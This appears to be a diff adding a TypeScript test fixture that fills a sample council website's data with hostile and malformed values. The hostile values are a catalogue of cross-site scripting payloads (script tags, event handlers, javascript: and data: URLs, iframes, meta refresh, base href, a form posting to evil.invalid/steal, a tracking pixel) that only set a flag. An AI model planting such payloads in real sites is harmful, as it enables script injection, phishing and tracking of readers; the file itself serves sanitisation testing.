@@ -1,0 +1,190 @@
+/**
+ * Hostile and messy versions of the sample council, made by transforming generateSampleCouncil()
+ * output: hostile HTML in every rich-text field the views render, markup in plain-text fields,
+ * unsafe URLs; and items with missing required fields, nulls everywhere, broken photos, 2,000-
+ * character names, emoji and right-to-left text. Every payload that could run script sets
+ * `window.__hostileRan`, and every payload that could fetch aims at `evil.invalid`.
+ */
+import type { ListKey } from '../../../src/schema';
+import type { ISiteData, IStoredItem, StoredValue } from '../../../tools/emulator/siteData';
+
+export const HOSTILE_FLAG = '__hostileRan';
+const RUN = `window.${HOSTILE_FLAG}=(window.${HOSTILE_FLAG}||0)+1`;
+export const EVIL_ORIGIN = 'http://evil.invalid';
+
+/** One of each kind of attack rich text from a list could carry, each with a visible marker word. */
+export const HOSTILE_RICH_TEXT: readonly string[] = [
+  `<p>Safe paragraph kept.</p>`,
+  `<script>${RUN}</script>`,
+  `<img src="x" onerror="${RUN}">`,
+  `<svg onload="${RUN}"><circle r="4"></circle></svg>`,
+  `<a href="javascript:${RUN}">javascript link</a>`,
+  `<a href="JaVaScRiPt&colon;${RUN}">encoded javascript link</a>`,
+  `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19ob3N0aWxlUmFuPTE8L3NjcmlwdD4=">data link</a>`,
+  `<iframe src="${EVIL_ORIGIN}/frame" onload="${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${HOSTILE_FLAG}=1</script>"></iframe>`,
+  `<style>body{background:url("${EVIL_ORIGIN}/bg.png")} p{width:expression(${RUN})}</style>`,
+  `<form action="${EVIL_ORIGIN}/steal"><input name="q" autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">Send</button></form>`,
+  `<p onclick="${RUN}" onmouseover="${RUN}" onfocus="${RUN}" tabindex="0">Hover target</p>`,
+  `<div style="position:fixed;inset:0;z-index:2147483647;background:#c00;color:#fff">Overlay covering the page</div>`,
+  `<object data="${EVIL_ORIGIN}/x.swf"></object><embed src="${EVIL_ORIGIN}/x.swf">`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
+  `<meta http-equiv="refresh" content="0;url=${EVIL_ORIGIN}/">`,
+  `<base href="${EVIL_ORIGIN}/">`,
+  `<link rel="stylesheet" href="${EVIL_ORIGIN}/x.css">`,
+  `<a href="${EVIL_ORIGIN}/phish" target="_blank">Ordinary external link</a>`
+];
+
+export const HOSTILE_HTML = HOSTILE_RICH_TEXT.join('\n');
+
+/** An image on another origin: fetching it tells that origin who read the item, and when. */
+export const TRACKING_PIXEL_HTML = `<p>Pixel below.</p><img src="${EVIL_ORIGIN}/pixel.gif" alt="">`;
+
+/** Markup in a plain-text field: must show as these characters, never become elements. */
+export const HOSTILE_NAME = `Hostile <b>Bold</b> "><script>${RUN}</script><img src=x onerror="${RUN}">`;
+
+export const LONG_NAME = `Longname ${'Abcdefghij'.repeat(199)}`.slice(0, 2000);
+export const RTL_EMOJI_NAME = 'مريم الحسيني 👩🏽‍⚖️ Zoë 🌈';
+
+type Fields = Record<string, StoredValue>;
+
+function withFields(item: IStoredItem, fields: Fields): IStoredItem {
+  return { ...item, fields: { ...item.fields, ...fields } };
+}
+
+/** Every field null (Title removed), as a list item can be when its columns were added later. */
+function emptied(item: IStoredItem, keep: Fields = {}): IStoredItem {
+  const fields: Fields = {};
+  for (const name of Object.keys(item.fields)) fields[name] = null;
+  delete fields.Title;
+  return { ...item, fields: { ...fields, ...keep } };
+}
+
+function replaceItems(data: ISiteData, list: ListKey, change: (item: IStoredItem, index: number) => IStoredItem): ISiteData {
+  return { ...data, lists: { ...data.lists, [list]: data.lists[list].map(change) } };
+}
+
+function firstIndex(items: readonly IStoredItem[], test: (item: IStoredItem) => boolean, label: string): number {
+  const index = items.findIndex(test);
+  if (index < 0) throw new Error(`The sample council has no ${label}.`);
+  return index;
+}
+
+export interface IHostileTargets {
+  /** Current member with a hostile name and biography. */
+  readonly memberId: number;
+  /** Councillor Liaison Officer with a hostile name, job title and liaison profile. */
+  readonly officerId: number;
+  /** Service with a hostile name and how-to-contact, found by its keyword. */
+  readonly serviceKeyword: string;
+  /** Service whose how-to-contact holds only TRACKING_PIXEL_HTML, found by its keyword. */
+  readonly pixelServiceKeyword: string;
+  /** This week's briefing, whose summary and every item's title and body are hostile. */
+  readonly briefingId: number;
+}
+
+/**
+ * Hostile data in every field the three views show: rich text (Biography, LiaisonProfile,
+ * HowToContact, Body, and the other Note fields) gets HOSTILE_HTML; names and titles get
+ * HOSTILE_NAME; hyperlinks get javascript: URLs.
+ */
+export function hostileCouncil(data: ISiteData, thisWeeksBriefingId: number): { readonly data: ISiteData; readonly targets: IHostileTargets } {
+  const memberIndex = firstIndex(data.lists.Members, (item) => item.fields.IsCurrent === true, 'current member');
+  const officerIndex = firstIndex(data.lists.Officers, (item) => item.fields.IsLiaisonOfficer === true, 'liaison officer');
+  const serviceKeyword = 'hostilekeyword';
+  const pixelServiceKeyword = 'pixelkeyword';
+  const javascriptUrl = { Url: `javascript:${RUN}`, Description: 'Open <b>link</b>' };
+
+  let hostile = replaceItems(data, 'Members', (item, index) =>
+    withFields(item, {
+      Biography: HOSTILE_HTML,
+      OutsideAppointments: HOSTILE_HTML,
+      Skills: HOSTILE_HTML,
+      Interests: HOSTILE_HTML,
+      ...(index === memberIndex
+        ? { Title: HOSTILE_NAME, CabinetRole: HOSTILE_NAME, Portfolio: HOSTILE_NAME, ContactNotes: HOSTILE_NAME, RegisterOfInterestsUrl: javascriptUrl }
+        : {})
+    })
+  );
+  hostile = replaceItems(hostile, 'Officers', (item, index) =>
+    index === officerIndex
+      ? withFields(item, { Title: `Officer ${HOSTILE_NAME}`, JobTitle: HOSTILE_NAME, Team: HOSTILE_NAME, Location: HOSTILE_NAME, LiaisonProfile: HOSTILE_HTML })
+      : withFields(item, { LiaisonProfile: item.fields.IsLiaisonOfficer === true ? HOSTILE_HTML : item.fields.LiaisonProfile ?? null })
+  );
+  hostile = replaceItems(hostile, 'Services', (item, index) =>
+    index === 1
+      ? withFields(item, { HowToContact: TRACKING_PIXEL_HTML, Keywords: pixelServiceKeyword })
+      : withFields(item, {
+          HowToContact: HOSTILE_HTML,
+          ...(index === 0 ? { Title: `Service ${HOSTILE_NAME}`, Keywords: serviceKeyword, ServiceUrl: javascriptUrl } : {})
+        })
+  );
+  hostile = replaceItems(hostile, 'Wards', (item, index) => (index === 0 ? withFields(item, { Title: `Ward ${HOSTILE_NAME}` }) : item));
+  hostile = replaceItems(hostile, 'Briefings', (item) =>
+    item.Id === thisWeeksBriefingId ? withFields(item, { Summary: HOSTILE_HTML }) : item
+  );
+  hostile = replaceItems(hostile, 'BriefingItems', (item) =>
+    item.fields.Briefing === thisWeeksBriefingId ? withFields(item, { Title: `Item ${HOSTILE_NAME}`, Body: HOSTILE_HTML }) : item
+  );
+  return {
+    data: hostile,
+    targets: {
+      memberId: data.lists.Members[memberIndex].Id,
+      officerId: data.lists.Officers[officerIndex].Id,
+      serviceKeyword,
+      pixelServiceKeyword,
+      briefingId: thisWeeksBriefingId
+    }
+  };
+}
+
+export interface IMessyTargets {
+  /** Current member with nothing filled in but IsCurrent. */
+  readonly emptyMemberId: number;
+  readonly longNameMemberId: number;
+  readonly rtlMemberId: number;
+  readonly emptyOfficerId: number;
+  readonly longNameOfficerId: number;
+}
+
+/**
+ * Messy data: a current member and an officer with every field null (no Title, no Ward, no
+ * Service), members and officers with 2,000-character names, emoji and right-to-left names,
+ * photos that point at files that do not exist, and this week's first briefing item emptied.
+ */
+export function messyCouncil(data: ISiteData, thisWeeksBriefingId: number): { readonly data: ISiteData; readonly targets: IMessyTargets } {
+  const current = data.lists.Members.filter((item) => item.fields.IsCurrent === true);
+  // From the end of each list, so hostileCouncil's targets (from the start) can be combined with these.
+  const [empty, long, rtl, brokenPhoto] = current.slice(-4);
+  const [emptyOfficer, longOfficer, rtlOfficer, brokenOfficer] = data.lists.Officers.filter((item) => item.fields.IsLiaisonOfficer !== true).slice(-4);
+  const brokenImage = { fileName: 'missing.jpg', serverRelativeUrl: `${data.serverRelativeUrl}/SiteAssets/no-such-folder/missing.jpg` };
+  const firstItemId = data.lists.BriefingItems.find((item) => item.fields.Briefing === thisWeeksBriefingId)?.Id;
+
+  let messy = replaceItems(data, 'Members', (item) => {
+    if (item === empty) return emptied(item, { IsCurrent: true });
+    if (item === long) return withFields(item, { Title: LONG_NAME, Surname: LONG_NAME, Portfolio: LONG_NAME });
+    if (item === rtl) return withFields(item, { Title: RTL_EMOJI_NAME, Surname: 'الحسيني', Biography: `<p dir="rtl">${RTL_EMOJI_NAME}</p>` });
+    if (item === brokenPhoto) return withFields(item, { Photo: brokenImage });
+    return item;
+  });
+  messy = replaceItems(messy, 'Officers', (item) => {
+    if (item === emptyOfficer) return emptied(item);
+    if (item === longOfficer) return withFields(item, { Title: LONG_NAME, JobTitle: LONG_NAME });
+    if (item === rtlOfficer) return withFields(item, { Title: RTL_EMOJI_NAME, JobTitle: 'مسؤول الاتصال 📞' });
+    if (item === brokenOfficer) return withFields(item, { Photo: brokenImage });
+    return item;
+  });
+  messy = replaceItems(messy, 'BriefingItems', (item) =>
+    item.Id === firstItemId ? emptied(item, { Briefing: thisWeeksBriefingId }) : item
+  );
+  return {
+    data: messy,
+    targets: {
+      emptyMemberId: empty.Id,
+      longNameMemberId: long.Id,
+      rtlMemberId: rtl.Id,
+      emptyOfficerId: emptyOfficer.Id,
+      longNameOfficerId: longOfficer.Id
+    }
+  };
+}
